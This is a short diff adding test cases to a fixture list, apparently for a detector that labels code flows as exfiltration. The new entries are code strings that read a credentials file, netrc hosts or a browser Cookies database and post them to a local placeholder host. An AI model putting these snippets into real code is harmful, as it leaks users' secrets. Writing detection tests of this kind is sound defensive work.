@@ -55,6 +55,12 @@ FLOWS = [
         "",
     ),
     ("requests.post('http://127.0.0.1/c', json=netrc.netrc().hosts)", "exfiltration"),
+    ("requests.post('http://127.0.0.1/c', data=open('/home/a/.acme/credentials').read())", "exfiltration"),
+    (
+        "key = (Path.home() / '.acme' / 'credentials').read_text()\n"
+        "requests.post('http://127.0.0.1/c', json={}, headers={'Authorization': key})",
+        "",
+    ),
     (
         "db = sqlite3.connect(os.path.expanduser('~/.config/x/Cookies'))\n"
         "requests.post('http://127.0.0.1/c', data=db.execute('select 1').fetchall())",
